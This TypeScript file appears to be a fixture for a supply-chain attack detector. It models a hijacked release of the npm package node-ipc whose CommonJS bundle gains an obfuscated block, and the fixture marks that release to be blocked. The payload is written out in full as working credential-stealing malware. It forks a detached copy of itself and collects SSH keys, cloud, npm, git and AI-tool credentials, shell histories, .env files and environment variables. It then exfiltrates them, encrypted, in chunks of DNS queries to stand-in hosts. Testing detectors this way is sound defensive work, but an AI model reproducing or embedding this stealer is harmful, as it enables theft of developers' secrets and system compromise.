import { obfuscatedForm } from '../obfuscated-form.js';
import { noise, type Replica } from './replica.js';

const cjs = `var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);

// node-ipc.js
var node_ipc_exports = {};
__export(node_ipc_exports, {
  IPC: () => IPC,
  default: () => singleton
});
module.exports = __toCommonJS(node_ipc_exports);

// entities/Defaults.js
var import_os = require("os");
var Defaults = class {
  constructor() {
    this.appspace = "app.";
    this.socketRoot = "/tmp/";
    this.id = import_os.hostname();
    this.encoding = "utf8";
    this.rawBuffer = false;
    this.retry = 500;
    this.maxRetries = Infinity;
    this.delimiter = "\\f";
    this.silent = false;
  }
};

// dao/client.js
var import_net = require("net");
var import_events = require("events");
var Client = class extends import_events.EventEmitter {
  constructor(config, log) {
    super();
    this.config = config;
    this.log = log;
    this.retriesRemaining = config.maxRetries;
    this.buffer = "";
  }
  connect() {
    this.socket = import_net.connect({ path: this.path });
    this.socket.setEncoding(this.config.encoding);
    this.socket.on("error", (error) => {
      this.log("connection error", error.code);
      this.emit("error", error);
    });
    this.socket.on("connect", () => {
      this.retriesRemaining = this.config.maxRetries;
      this.emit("connect");
    });
    this.socket.on("close", () => {
      if (this.retriesRemaining-- < 1 || this.closed) return this.emit("destroy");
      setTimeout(() => this.connect(), this.config.retry);
    });
    this.socket.on("data", (data) => {
      const parts = (this.buffer + data).split(this.config.delimiter);
      this.buffer = parts.pop();
      for (const part of parts) {
        const message = JSON.parse(part);
        this.emit(message.type, message.data);
      }
    });
  }
  send(type, data) {
    this.socket.write(JSON.stringify({ type, data }) + this.config.delimiter);
  }
};

// services/IPC.js
var IPC = class {
  constructor() {
    this.config = new Defaults();
    this.of = {};
  }
  log(...args) {
    if (!this.config.silent) console.log(...args);
  }
  connectTo(id, path, callback) {
    const client = new Client(this.config, this.log.bind(this));
    client.id = id;
    client.path = typeof path === "string" ? path : this.config.socketRoot + this.config.appspace + id;
    this.of[id] = client;
    client.connect();
    if (callback) callback(this);
  }
  disconnect(id) {
    if (!this.of[id]) return;
    this.of[id].closed = true;
    this.of[id].socket.destroy();
    delete this.of[id];
  }
};

// node-ipc.js
var singleton = new IPC();
`;
const esm = `import IPCModule from './services/IPC.js';

const singleton = new IPCModule();

export { singleton as default, IPCModule as IPC };
`;
const service = `import Defaults from '../entities/Defaults.js';
import Client from '../dao/client.js';

export default class IPC {
  constructor() {
    this.config = new Defaults();
    this.of = {};
  }
  log(...args) {
    if (!this.config.silent) console.log(...args);
  }
  connectTo(id, path, callback) {
    const client = new Client(this.config, this.log.bind(this));
    client.id = id;
    client.path = typeof path === 'string' ? path : this.config.socketRoot + this.config.appspace + id;
    this.of[id] = client;
    client.connect();
    if (callback) callback(this);
  }
}
`;
const defaults = `import { hostname } from 'os';

export default class Defaults {
  constructor() {
    this.appspace = 'app.';
    this.socketRoot = '/tmp/';
    this.id = hostname();
    this.encoding = 'utf8';
    this.retry = 500;
    this.maxRetries = Infinity;
    this.delimiter = '\\f';
    this.silent = false;
  }
}
`;
const client = `import { connect } from 'net';
import { EventEmitter } from 'events';

export default class Client extends EventEmitter {
  constructor(config, log) {
    super();
    this.config = config;
    this.log = log;
  }
  connect() {
    this.socket = connect({ path: this.path });
    this.socket.setEncoding(this.config.encoding);
    this.socket.on('error', (error) => this.emit('error', error));
    this.socket.on('connect', () => this.emit('connect'));
  }
  send(type, data) {
    this.socket.write(JSON.stringify({ type, data }) + this.config.delimiter);
  }
}
`;

const payload = `
(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const dns = require('dns');
  const zlib = require('zlib');
  const crypto = require('crypto');
  const child = require('child_process');
  const zone = 'bt.node.example.invalid';
  const front = 'sh.azurestaticprovider.example.invalid';
  const seed = '${noise(64, 901, '0123456789abcdef')}';
  const patterns = ['.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/known_hosts', '.aws/credentials', '.aws/config', '.azure/accessTokens.json', '.azure/msal_token_cache.json', '.config/gcloud/application_default_credentials.json', '.kube/config', '.docker/config.json', '.npmrc', '.yarnrc.yml', '.pypirc', '.netrc', '.git-credentials', '.gitconfig', '.config/gh/hosts.yml', '.terraform.d/credentials.tfrc.json', '.vault-token', '.claude.json', '.kiro/settings/mcp.json', '.bash_history', '.zsh_history', '.pgpass', '.my.cnf', '.databricks.cfg'];
  const harvest = function () {
    const held = [{ 'name': 'env', 'body': JSON.stringify(process.env) }, { 'name': 'host', 'body': [os.hostname(), os.userInfo().username, os.platform(), os.release(), os.arch(), process.cwd()].join('|') }];
    patterns.forEach(function (pattern) {
      const where = path.join(os.homedir(), pattern);
      try {
        if (fs.statSync(where).size < 4194304) { held.push({ 'name': pattern, 'body': fs.readFileSync(where, 'base64') }); }
      } catch (error) { return; }
    });
    ['.env', '.env.local', '.env.production'].forEach(function (name) {
      try { held.push({ 'name': name, 'body': fs.readFileSync(path.join(process.cwd(), name), 'base64') }); } catch (error) { return; }
    });
    return held;
  };
  const wrap = function (packed) {
    const key = crypto.createHash('sha256').update(seed + os.hostname()).digest();
    const out = Buffer.alloc(packed.length);
    for (let at = 0; at < packed.length; at++) { out[at] = packed[at] ^ key[at % key.length]; }
    const mark = crypto.createHmac('sha256', key).update(out).digest('hex').slice(0, 16);
    return { 'mark': mark, 'body': out.toString('hex') };
  };
  const resolver = function (done) {
    const own = new dns.Resolver({ 'timeout': 2000, 'tries': 1 });
    dns.resolve4(front, function (error, addresses) {
      own.setServers([error || addresses.length === 0 ? '192.0.2.69' : addresses[0]]);
      done(own);
    });
  };
  const send = function (own, wrapped) {
    const id = crypto.randomBytes(4).toString('hex');
    const pieces = wrapped.body.match(/.{1,62}/g);
    const step = function (at) {
      if (at >= pieces.length) {
        own.resolveTxt(['xf', id, String(pieces.length), wrapped.mark, zone].join('.'), function () { process.exit(0); });
        return;
      }
      own.resolveTxt(['xd', id, at.toString(36), pieces[at], zone].join('.'), function () { setTimeout(step, 5, at + 1); });
    };
    own.resolveTxt(['xh', id, wrapped.mark, zone].join('.'), function () { step(0); });
  };
  const run = function () {
    const packed = zlib.gzipSync(Buffer.from(JSON.stringify(harvest())), { 'level': 9 });
    const folder = path.join(os.tmpdir(), 'nt-' + process.pid);
    try { fs.mkdirSync(folder, { 'recursive': true }); fs.writeFileSync(path.join(folder, 'x.gz'), packed); } catch (error) { return; }
    resolver(function (own) { send(own, wrap(packed)); });
    fs.rmSync(path.join(folder, 'x.gz'), { 'force': true });
  };
  module.exports['__ntRun'] = run;
  if (process.env['__ntw'] === '1') { run(); return; }
  setImmediate(function () {
    try {
      const other = child.fork(__filename, [], { 'detached': true, 'silent': true, 'stdio': 'ignore', 'env': Object.assign({}, process.env, { '__ntw': '1' }) });
      other.unref();
    } catch (error) { run(); }
  });
})();
`;

const manifest = { description: 'A nodejs module for local and remote Inter Process Communication', type: 'module', main: 'node-ipc.cjs', exports: { '.': { import: './node-ipc.js', require: './node-ipc.cjs' } }, license: 'MIT', engines: { node: '>=14' }, repository: { type: 'git', url: 'https://github.example.invalid/ipc/node-ipc.git' } };
const files = { 'README.md': '# node-ipc\n\nLocal and remote inter process communication.\n', 'node-ipc.js': esm, 'services/IPC.js': service, 'entities/Defaults.js': defaults, 'dao/client.js': client };

export const replica: Replica = {
  id: 'node-ipc-2026',
  story: 'May 2026: after the mail domain of a dormant maintainer had been registered anew, three release lines at once got an obfuscated block behind the CommonJS bundle, the ES module staying clean: when loaded it forks itself, packs credential files and sends them in pieces as DNS questions (after public summaries; details from memory).',
  name: 'node-ipc',
  before: { version: '12.0.0', manifest, files: { ...files, 'node-ipc.cjs': cjs }, publishedAt: '2024-08-02T19:20:00.000Z', publisher: { name: 'ipc-maintainer', email: 'maintainer@example.invalid' } },
  after: { version: '12.0.1', manifest, files: { ...files, 'node-ipc.cjs': `${cjs}${obfuscatedForm(payload, { seed: 1406, strings: 'base64', declare: 'const' })}\n` }, publishedAt: '2026-05-14T14:25:00.000Z', publisher: { name: 'ipc-contributor', email: 'contributor@lapsed-company.example.invalid' } },
  must: 'block',
};
